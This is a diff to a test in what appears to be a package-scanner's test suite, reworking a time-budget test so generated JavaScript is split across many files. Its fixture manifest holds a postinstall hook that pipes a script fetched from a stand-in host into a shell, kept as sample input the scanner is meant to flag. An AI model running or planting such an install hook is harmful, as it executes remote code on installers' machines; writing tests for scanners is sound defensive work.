@@ -30,9 +30,11 @@ def test_cheap_analyzers_run_before_the_code_analyzer():
 
 
 def test_a_package_over_its_time_budget_keeps_its_findings_and_is_not_clean(tmp_path):
-    # Far more code than can be parsed in 1 s, behind an install hook the cheap analyzer judges first.
-    big = "".join(f"function f{i}(a) {{ return a + {i} * Math.max(a, {i}); }}\n" for i in range(120_000))
-    job = _job({"_manifest": {"scripts": {"postinstall": "curl -s https://x.example/i.sh | sh"}}, "index.js": big})
+    # Far more code than can be parsed in 1 s (many files, each small enough to be read), behind an
+    # install hook the cheap analyzer judges first.
+    code = "".join(f"function f{i}(a) {{ return a + {i} * Math.max(a, {i}); }}\n" for i in range(12_000))
+    files = {f"lib/part{n}.js": code for n in range(40)}
+    job = _job({"_manifest": {"scripts": {"postinstall": "curl -s https://x.example/i.sh | sh"}}, **files})
     settings = Settings(cache_dir=tmp_path, jobs=1, package_seconds=1.0)
     analysed, entries = _run([job], settings)[0]
     rules = {f.rule for f in analysed.findings}
